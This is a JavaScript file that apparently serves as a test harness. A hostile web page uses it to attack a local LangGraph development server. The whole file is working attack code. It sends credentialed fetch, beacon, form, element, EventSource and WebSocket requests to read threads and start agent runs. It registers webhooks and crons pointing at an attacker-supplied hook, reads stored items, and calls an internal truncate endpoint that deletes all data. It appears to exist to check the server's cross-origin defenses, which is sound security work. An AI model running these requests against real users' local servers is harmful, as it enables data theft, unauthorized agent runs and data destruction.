/**
 * What a page of another site can try on a server of this machine, in whatever way a browser has.
 * Each attempt says how it went: "read" with the first words of what it read, or why it could not.
 * What a server did for an attempt carries its name in the metadata.
 */

const KNOWN = "11111111-2222-4333-8444-555555555555";
const SECONDS = 8;
const TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json", ""];
const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY"];
const MODES = ["cors", "no-cors", "same-origin"];

const marked = (attack) => ({ metadata: { attack }, if_exists: "do_nothing" });
const question = { question: "Who?" };

const timed = (promise) =>
  Promise.race([promise, new Promise((resolve) => setTimeout(resolve, SECONDS * 1000, "no answer"))])
    .catch((error) => `${error.name}: ${error.message}`);

async function fetched(url, options) {
  const response = await fetch(url, { credentials: "include", ...options });
  if (response.type === "opaque") return "sent";
  const text = await response.text();
  return response.ok ? `read ${response.status} ${text.slice(0, 80)}` : `refused ${response.status} ${text.slice(0, 200)}`;
}

const plain = (url, body, method = "POST", mode = "no-cors", type = "text/plain") =>
  fetched(url, { method, mode, body: JSON.stringify(body), headers: type ? { "Content-Type": type } : {} });

/** Every mode, method and type of `fetch`. */
function* fetches(base) {
  yield ["fetch navigate", () => fetched(base + "/info", { mode: "navigate" })];
  for (const mode of MODES)
    for (const method of METHODS)
      for (const type of ["GET", "HEAD"].includes(method) ? [""] : TYPES) {
        const name = `fetch ${mode} ${method} ${type}`.trim();
        const [path, body] = {
          GET: ["/threads/" + KNOWN], HEAD: ["/info"],
          PUT: ["/store/items", { namespace: ["attack"], key: name, value: { name } }],
          PATCH: ["/threads/" + KNOWN, { metadata: { attack: name } }],
          DELETE: ["/threads/" + KNOWN, {}],
        }[method] ?? ["/threads", marked(name)];
        const headers = type ? { "Content-Type": type } : {};
        const options = { mode, method, headers, ...(body && { body: JSON.stringify(body) }) };
        yield [name, () => fetched(base + path, options)];
      }
}

/** What simple requests can start, write, or send away. */
function* simple(base, hook, assistant) {
  const run = (name) => ({ assistant_id: assistant, input: question, ...marked(name), on_completion: "keep" });
  yield ["run", () => plain(`${base}/runs`, run("run"))];
  yield ["webhook", () => plain(`${base}/runs`, { ...run("webhook"), webhook: hook })];
  yield ["batch", () => plain(`${base}/runs/batch`, [{ ...run("batch"), webhook: hook }])];
  yield ["run on a thread", () => plain(`${base}/threads/${KNOWN}/runs`, { ...run("run on a thread"), if_not_exists: "create" })];
  yield ["cron", () => plain(`${base}/runs/crons`, { ...run("cron"), schedule: "0 0 1 1 *", webhook: hook })];
  yield ["store", () => plain(`${base}/store/items/search`, { namespace_prefix: [] }, "POST", "cors")];
  yield ["assistant", () => plain(`${base}/assistants`, { graph_id: assistant, name: "attack", ...marked("assistant") })];
  yield ["state", () => plain(`${base}/threads/${KNOWN}/state`, { values: { question: "Whose?" } })];
  yield ["command", () => plain(`${base}/threads/${KNOWN}/commands`, { id: 1, method: "run.start", params: { assistant_id: assistant, input: question, metadata: { attack: "command" } } })];
  yield ["mcp", () => plain(`${base}/mcp`, { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: assistant, arguments: question } })];
  yield ["a2a", () => plain(`${base}/a2a/${assistant}`, { jsonrpc: "2.0", id: 1, method: "message/send", params: { message: { role: "user", messageId: "1", parts: [{ kind: "text", text: "Who?" }] } } })];
  yield ["no type", () => fetched(`${base}/threads`, { method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(marked("no type"))]) })];
  yield ["keepalive", () => fetched(`${base}/threads`, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(marked("keepalive")) })];
  yield ["private network", () => fetched(`${base}/threads/search`, { method: "POST", targetAddressSpace: "loopback", body: "{}", headers: { "Content-Type": "application/json" } })];
}

function* beacons(base) {
  const forms = Object.fromEntries(TYPES.map((type) => [type || "no type", (body) => new Blob([body], { type })]));
  forms.string = (body) => body;
  forms.form = () => { const form = new FormData(); form.append("a", "b"); return form; };
  for (const [kind, made] of Object.entries(forms)) {
    const name = `beacon ${kind}`;
    yield [name, async () => String(navigator.sendBeacon(`${base}/threads`, made(JSON.stringify(marked(name)))))];
  }
}

/** A form whose only field spells JSON, in a frame and in a window of its own. */
function* forms(base) {
  for (const enctype of TYPES.slice(0, 3))
    for (const target of ["frame", "window"])
      for (const method of ["post", "get"]) {
        const name = `form ${enctype} ${target} ${method}`;
        yield [name, () => submitted(base, name, { enctype, target, method })];
      }
}

async function submitted(base, name, { enctype, target, method }) {
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = target === "frame" ? name : "";
  Object.assign(form, { action: `${base}/threads`, method, enctype, target: target === "frame" ? name : "_blank" });
  const field = document.createElement("input");
  Object.assign(field, { name: JSON.stringify(marked(name)).replace(/}$/, ',"x":"'), value: '"}' });
  form.append(field);
  document.body.append(frame, form);
  form.submit();
  if (target === "window") return "sent";
  await new Promise((resolve) => setTimeout(resolve, 500));
  return shown(frame.contentDocument);
}

/** Elements that load by themselves. */
function* elements(base) {
  const at = (path) => `${base}${path}?${Math.random()}`;
  for (const path of ["/info", `/threads/${KNOWN}/state`, "/page/main.js", "/page/icon.svg", "/page/base.css"]) {
    for (const [tag, attribute] of [["img", "src"], ["script", "src"], ["video", "src"], ["embed", "src"], ["object", "data"]])
      yield [`${tag} ${path}`, () => loaded(tag, { [attribute]: at(path) })];
    yield [`style ${path}`, () => loaded("link", { rel: "stylesheet", href: at(path) })];
    yield [`module ${path}`, () => import(at(path)).then(() => "read a module")];
  }
  yield ["frame", () => framed(`${base}/`)];
}

/** What a frame or a window shows, where it can be looked into; a refusal is nothing worth reading. */
function shown(view) {
  const text = view?.body?.textContent ?? "";
  if (!text) return "sent";
  return /^({"detail"|Invalid host)/.test(text) ? `refused ${text.slice(0, 200)}` : `read ${text.slice(0, 80)}`;
}

const loaded = (tag, attributes) =>
  new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = element.onloadeddata = () => resolve(`read as ${tag}`);
    element.onerror = () => resolve("failed");
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    if (["embed", "object"].includes(tag)) resolve("sent"); // They load like frames, out of reach.
  });

const framed = (url) =>
  new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => resolve(shown(frame.contentDocument));
    frame.src = url;
    document.body.append(frame);
  });

function* streams(base, assistant) {
  yield ["EventSource", () => new Promise((resolve) => {
    const source = new EventSource(`${base}/threads/${KNOWN}/stream`, { withCredentials: true });
    source.onopen = () => (source.close(), resolve("read a stream"));
    source.onerror = () => (source.close(), resolve("failed"));
  })];
  yield ["WebSocket", () => new Promise((resolve) => {
    const socket = new WebSocket(`${base.replace("http", "ws")}/threads/${KNOWN}/stream/events`);
    const params = { assistant_id: assistant, input: question, metadata: { attack: "WebSocket" } };
    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "run.start", params }));
    socket.onmessage = ({ data }) => (socket.close(), resolve(`read ${data.slice(0, 80)}`));
    socket.onerror = () => resolve("failed");
  })];
  yield ["window", async () => {
    const opened = open(`${base}/threads/${KNOWN}`);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return shown(opened?.document);
  }];
}

/** Delete everything: LangGraph's development server has an address for that. */
window.truncate = (base) => timed(plain(`${base}/internal/truncate`, {}));

/** Try everything else, or what has such a name; return what became of each attempt. */
window.attack = async (base, hook, assistant, names = "") => {
  const found = {};
  const plan = [...fetches(base), ...simple(base, hook, assistant), ...beacons(base), ...forms(base), ...elements(base), ...streams(base, assistant)];
  const chosen = plan.filter(([name]) => new RegExp(names).test(name));
  await Promise.all(chosen.map(async ([name, attempt]) => (found[name] = String(await timed((async () => attempt())())))));
  return found;
};
